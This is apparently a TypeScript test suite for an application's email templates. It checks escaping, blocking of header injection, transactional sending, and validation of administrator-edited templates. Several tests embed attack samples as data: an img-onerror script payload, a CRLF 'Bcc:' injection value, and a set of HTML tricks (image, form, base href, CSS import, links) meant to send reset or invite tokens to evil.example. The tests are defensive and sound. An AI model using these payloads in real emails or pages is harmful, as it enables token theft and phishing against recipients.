import assert from 'node:assert/strict'
import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { test } from 'node:test'
import { sql } from 'kysely'
import { inTx } from '#infra/db/client.ts'
import type { Caller } from '#kernel/caller.ts'
import type { Refusal } from '#kernel/errors.ts'
import { fromWire, type UserId } from '#kernel/ids.ts'
import { startApp, type TestApp } from '#test/harness/app.ts'
import {
  isTemplateName,
  previewTemplate,
  queueMail,
  readTemplate,
  readTemplates,
  resetTemplate,
  saveTemplate,
} from './index.ts'
import { leaveOutPages } from './leave-out-pages.ts'
import { checkTemplates, render, variablesIn } from './render.ts'
import { templates } from './templates.ts'

test("a user's name is escaped in HTML", () => {
  const name = `<img src=x onerror="a()">&'`
  const url = 'https://posts.test'
  const values = { name, by: name, outcome: '', profile: 'Harbour', post: 'Hi', url, unsubscribeUrl: url }
  const mail = render(templates['approval-decided'], { ...values, link: 'https://posts.test/?a=1&b="2"' })
  assert.ok(mail.html.includes('<p>&lt;img src=x onerror=&quot;a()&quot;&gt;&amp;&#39; reviewed your post. </p>'))
  assert.ok(mail.html.includes('href="https://posts.test/?a=1&amp;b=&quot;2&quot;"'))
  assert.ok(mail.text.includes(`Hello <img src=x onerror="a()">&',`))
})

test('no name can add a paragraph to an email or reverse its text, whatever an older version stored', () => {
  const forged = 'Ada\r\n\r\nYour password\u2029expired \u202e:(\x1b[2J'
  for (const [name, template] of Object.entries(templates)) {
    const values = (value: string) => Object.fromEntries([...template.variables].map((one) => [one, value]))
    const names = [...template.variables].filter(
      (one) => !['answer', 'best', 'causes', 'detail', 'message', 'note', 'outcome', 'post'].includes(one),
    )
    const mail = render(template, { ...values('x'), ...Object.fromEntries(names.map((one) => [one, forged])) })
    const plain = render(template, values('x'))
    const countParagraphs = (text: string) => text.split('\n\n').length
    assert.equal(countParagraphs(mail.text), countParagraphs(plain.text), name)
    for (const part of Object.values(mail)) assert.doesNotMatch(part, /[\p{Cc}--\n]|[\u2028\u2029\u202e]/v, name)
  }
})

test('a value that looks like a variable or a replacement pattern stays unchanged', () => {
  const { text } = render(templates.welcome, { name: "{{url}} $& $1 $'", url: 'https://posts.test' })
  assert.ok(text.startsWith("Hello {{url}} $& $1 $',"))
})

test('no line of an email is so long that its encoding breaks it, except a link, which stays intact', () => {
  const long = { token: 'x'.repeat(43), inviteToken: 'x'.repeat(43), url: 'https://posthorn.example.com' }
  const values = {
    ...long,
    profile: 'p '.repeat(40),
    endpoint: 'https://example.com/hooks',
    why: 'it fails '.repeat(9),
  }
  for (const template of Object.values(templates)) {
    const filled = Object.fromEntries([...template.variables].map((name) => [name, 'ada@example.com']))
    const { text } = render(template, { ...filled, ...values })
    for (const line of text.split('\n')) assert.ok(line.length <= 76 || isLink(line), line)
  }
})

/** A link is one word; mail readers join lines that the encoding broke. */
const isLink = (line: string): boolean => /^https:\/\/\S+$/.test(line)

test('an email from an installation without pages links to none, and still explains the API call', () => {
  for (const [name, template] of Object.entries(templates)) {
    const { text, html } = leaveOutPages(template)
    assert.doesNotMatch(text + html, /\{\{url\}\}\/(?!v1\/)|\{\{link\}\}/, name)
    for (const one of template.variables.filter((variable) => /token$/i.test(variable))) {
      assert.ok(variablesIn(text).includes(one), name)
      assert.ok(variablesIn(html).includes(one), name)
      // The pages of guests are part of the API.
      if (!name.startsWith('guest-')) assert.match(text, /POST \{\{url\}\}\/v1\//, name)
    }
  }
})

test('a subject is a single line', () => {
  const template = { variables: ['name'], subject: 'For {{name}}', text: '{{name}}', html: '{{name}}' }
  assert.equal(render(template, { name: 'a\r\nBcc: b@c.test\u2028d' }).subject, 'For a Bcc: b@c.test d')
})

test('a variable without a value is refused, even if it names a prototype property', () => {
  const template = { variables: ['toString'], subject: '', text: '{{toString}}', html: '' }
  assert.throws(() => render(template, {}), /no value was given for \{\{toString\}\}/)
})

test('the built-in templates match their variables; a mismatch is reported with all errors', () => {
  checkTemplates(templates)
  const faulty = { variables: ['name', 'idle'], subject: '{{ name }}', text: '{{nmae}}', html: '{{}}' }
  assert.throws(
    () => checkTemplates({ faulty }),
    /faulty uses \{\{nmae\}\}.*faulty uses \{\{\}\}.*faulty declares idle but does not use it/,
  )
})

test('an email is sent after its transaction commits, and never after a rollback', async () => {
  await using t = await startApp()
  const invite = { url: 'https://posts.test', inviteToken: 'abc', days: '7' }
  await assert.rejects(
    inTx(t.db, async (tx) => {
      await queueMail(t.deps, tx, { to: 'not@posts.test', template: 'sign-up-invite', values: invite })
      throw new Error('undone')
    }),
    /undone/,
  )
  await t.settle()
  const before = await mailsTo(t, 'not@posts.test')
  await inTx(t.db, (tx) => queueMail(t.deps, tx, { to: 'ada@posts.test', template: 'sign-up-invite', values: invite }))
  assert.equal((await mailsTo(t, 'ada@posts.test')).length, 0)
  await t.settle()
  assert.deepEqual([before.length, (await mailsTo(t, 'ada@posts.test')).length], [0, 1])
})

async function mailsTo(t: TestApp, address: string): Promise<string[]> {
  const folder = join(t.folder, 'outbox')
  const names = await readdir(folder).catch(() => [])
  const texts = await Promise.all(names.map((name) => readFile(join(folder, name), 'utf8')))
  return texts.filter((text) => text.includes(address))
}

const words = {
  subject: 'New words for {{name}}',
  text: 'Hi {{ name }}:\n\n{{token}}\n\n({{hours}} h, {{url}})',
  html: '<b>{{name}}</b> <p>{{token}}</p>',
}
const admin = (uid: string): Caller => ({
  kind: 'user',
  uid: fromWire('usr', uid) as UserId,
  role: 'admin',
  plan: 'max',
  keyId: null,
  scopes: null,
  onlyProfiles: null,
  signedInAt: null,
  sessionId: null,
  requestId: 'req_test',
})

test('a saved template is sent from then on, and the built-in one after a reset; both are audited', async () => {
  await using t = await startApp()
  const root = await t.as('root')
  const caller = admin(root.uid)
  const values = { name: 'Ada & Co', token: 'tok-1', hours: '48', url: 'https://posts.test' }
  const mail = (to: string) => inTx(t.db, (tx) => queueMail(t.deps, tx, { to, template: 'verify-email', values }))

  const builtIn = await readTemplate(t.db, 'verify-email')
  assert.deepEqual([builtIn.isChanged, builtIn.updatedAt, builtIn.updatedBy], [false, null, null])
  await mail('waiting@posts.test')
  const saved = await saveTemplate(t.deps, caller, 'verify-email', words)
  assert.deepEqual(saved, { ...builtIn, ...words, isChanged: true, updatedAt: t.now(), updatedBy: caller.uid })
  assert.deepEqual(await readTemplate(t.db, 'verify-email'), saved)
  assert.deepEqual(await saveTemplate(t.deps, caller, 'verify-email', words), saved, 'said again')
  await t.settle()
  const [waited = ''] = await mailsTo(t, 'waiting@posts.test')
  assert.match(waited, /^Subject: New words for Ada & Co\r$/m)
  assert.match(waited, /Hi Ada & Co:\r\n\r\ntok-1\r\n\r\n\(48 h, https:\/\/posts\.test\)/)
  assert.match(waited.replaceAll('=\r\n', ''), /<b>Ada &amp; Co<\/b> <p [^>]*>tok-1<\/p>/)

  await t.advance(1)
  assert.deepEqual(await resetTemplate(t.deps, caller, 'verify-email'), builtIn)
  assert.deepEqual(await resetTemplate(t.deps, caller, 'verify-email'), builtIn, 'nothing left to reset')
  await mail('after@posts.test')
  await t.settle()
  assert.match((await mailsTo(t, 'after@posts.test'))[0] ?? '', /^Subject: Confirm your email address\r$/m)

  const { entries } = (await root.get('/v1/auth/me/audit-log')).body
  const seen = entries.filter((entry: { subject: string }) => entry.subject === 'verify-email')
  assert.deepEqual(
    seen.map((entry: { action: string }) => entry.action),
    ['mail_template.reset', 'mail_template.changed'],
  )
  assert.deepEqual(seen[1].changes.subject, { from: builtIn.subject, to: words.subject })
})

test('an invalid template is refused with all errors, when saved and when previewed', async () => {
  await using t = await startApp()
  const caller = admin((await t.as('root')).uid)
  const bad = { subject: 'x\r\nBcc: {{token}}', text: '{{nmae}}', html: ' ' }
  const codes = ['secret_in_subject', 'unknown_variable', 'missing_variable', 'length', 'missing_variable', 'lines']
  for (const attempt of [
    async () => saveTemplate(t.deps, caller, 'verify-email', bad),
    async () => previewTemplate(t.config, 'verify-email', bad),
  ]) {
    await assert.rejects(attempt, (error: Refusal) => {
      assert.equal(error.code, 'validation_failed')
      assert.deepEqual(
        error.info.errors?.map((fault) => fault.code),
        codes,
      )
      assert.match(error.message, /must not use \{\{nmae\}\}\. The variables of this email are name, token, url, hours/)
      return true
    })
  }
  assert.equal((await readTemplate(t.db, 'verify-email')).isChanged, false)
})

test('a stored template that no longer matches its variables is replaced by the built-in one', async () => {
  await using t = await startApp()
  const old = { name: 'goodbye', subject: 'Old', text: '{{gone}}', html: '{{gone}}', updatedAt: t.now() }
  await t.db.insertInto('mailTemplate').values(old).execute()
  const values = { name: 'Ada', url: 'https://posts.test' }
  await inTx(t.db, (tx) => queueMail(t.deps, tx, { to: 'ada@posts.test', template: 'goodbye', values }))
  await t.settle()
  assert.match((await mailsTo(t, 'ada@posts.test'))[0] ?? '', /^Subject: Your account was deleted\r$/m)
})

test('a template that an administrator wrote around the code of an earlier version is still accepted and sent', async () => {
  await using t = await startApp()
  const page = '{{url}}/auth/confirm#{{token}}'
  const earlier = {
    subject: 'Ahoy',
    text: `Ahoy {{name}}, your code is:\n\n{{token}}\n\nOpen this page:\n\n${page}\n`,
    html: `<p>Ahoy {{name}}, your code is:</p>\n<p>{{token}}</p>\n<p><a href="${page}">${page}</a></p>\n`,
  }
  await saveTemplate(t.deps, admin((await t.as('root')).uid), 'verify-email', earlier)
  const values = { name: 'Ada', token: 'tok-1', hours: '48', url: 'https://posts.test' }
  await inTx(t.db, (tx) => queueMail(t.deps, tx, { to: 'ada@posts.test', template: 'verify-email', values }))
  await t.settle()
  const [mail = ''] = await mailsTo(t, 'ada@posts.test')
  assert.match(mail, /^Subject: Ahoy\r$/m)
  assert.match(
    mail,
    /your code is:\r\n\r\ntok-1\r\n\r\nOpen this page:\r\n\r\nhttps:\/\/posts\.test\/auth\/confirm#tok-1\r/,
  )
})

const evil = 'https://evil.example'

test('a template with a token cannot send the token or its reader elsewhere', async () => {
  await using t = await startApp()
  const caller = admin((await t.as('root')).uid)
  const carriers = (await readTemplates(t.db)).filter(({ variables }) => variables.some((one) => /token$/i.test(one)))
  assert.deepEqual(
    carriers.map(({ name }) => name),
    [
      ...['change-email', 'guest-code', 'guest-invite', 'guest-waiting', 'profile-invite', 'reset-password'],
      ...['sign-up-invite', 'verify-email', 'welcome-verify'],
    ],
  )
  for (const { name, variables, subject, text, html } of carriers) {
    const token = `{{${variables.find((one) => /token$/i.test(one))}}}`
    const tries: Record<string, { subject?: string; text?: string; html?: string }> = {
      'an image with the token': { html: `${html}<img src="${evil}/${token}">` },
      'an image before the token that captures it': { html: `<img src="${evil}/?${html}` },
      'a form around the token': { html: `<form action="${evil}"><input value="${token}">${html}</form>` },
      'a base URL for the links': { html: `<base href="${evil}">${html}` },
      'a style that reads the page': { html: `<style>@import "${evil}";</style>${html}` },
      'a link with the token': { html: `${html}<a href="${evil}/${token}">here</a>` },
      'an attribute of a plain tag': { html: `<p style="background:url(//evil.example)">x</p>${html}` },
      'a tag in two halves': {
        html: html.replace(/<p>(<a href="[^\n]*<\/a>|\{\{codeToken\}\})<\/p>/, (one) => `<a hr${one}ef="${evil}">`),
      },
      'a comment': { html: `<!-- ${html} -->` },
      'a written address': { html: `<p>Enter it at ${evil}</p>${html}` },
      'a URL in entities': { html: `<p>evil&#46;example</p>${html}` },
      'a URL broken up by tags': { html: `<p>evil.<b>example</b></p>${html}` },
      'a link with the token in the text': { text: `${text}\n\n${evil}/${token}` },
      'a URL in the token’s paragraph': { text: text.replace(token, `${evil}/${token}`) },
      'other words around the token in the text': { text: text.replace(token, `Read this to any caller: ${token}`) },
      'other words around the token in the HTML': { html: `${html}<p>Read this to any caller: ${token}</p>` },
      'a domain in the text': { text: `${text}\n\nEnter it at evil.example` },
      'a disguised domain in the text': {
        text: `${text}\n\nEnter it at evil[.]example or evil\uff0eexample or ev\u200bil.example`,
      },
      'a domain in the subject': { subject: 'Enter your code at evil.example' },
    }
    for (const [what, parts] of Object.entries(tries)) {
      const wanted = { subject, text, html, ...parts }
      const refused = (error: Refusal) => error.code === 'validation_failed'
      await assert.rejects(async () => saveTemplate(t.deps, caller, name, wanted), refused, `${name}: ${what}`)
      assert.throws(() => previewTemplate(t.config, name, wanted), refused, `${name}: ${what}`)
    }
    const friendly = {
      subject: 'Ahoy',
      text: `Ahoy {{url}}/help,\n\n${text}`,
      html: `<h2>Ahoy</h2><p>See <a href="{{url}}">our page</a> &amp; <b>write</b>.</p>${html}`,
    }
    assert.equal((await saveTemplate(t.deps, caller, name, friendly)).text, friendly.text)
  }
})

test('every built-in template can be previewed and saved unchanged', async () => {
  await using t = await startApp()
  const caller = admin((await t.as('root')).uid)
  const all = await readTemplates(t.db)
  assert.deepEqual(
    all.map(({ name }) => name),
    Object.keys(templates).sort(),
  )
  for (const template of all) {
    assert.ok(isTemplateName(template.name))
    const { subject, text, html } = previewTemplate(t.config, template.name, template)
    assert.ok(!`${subject}${text}${html}`.includes('{{'), template.name)
    assert.ok(text.includes(t.config.publicUrl), template.name)
    assert.equal((await saveTemplate(t.deps, caller, template.name, template)).isChanged, false)
  }
  assert.equal(isTemplateName('toString'), false)
})

test('a queued email reveals neither its address nor its token in the database', async () => {
  await using t = await startApp()
  const values = { inviteToken: 'planted-token', url: 'https://posts.test', days: '7' }
  const to = 'planted@posts.test'
  await inTx(t.db, (tx) => queueMail(t.deps, tx, { to, template: 'sign-up-invite', values }))
  const { rows } = await sql<{ text: string }>`select row_to_json(j)::text as text from job j`.execute(t.db)
  assert.ok(rows.length > 0)
  for (const { text } of rows) assert.ok(!/planted/.test(text), text)
})
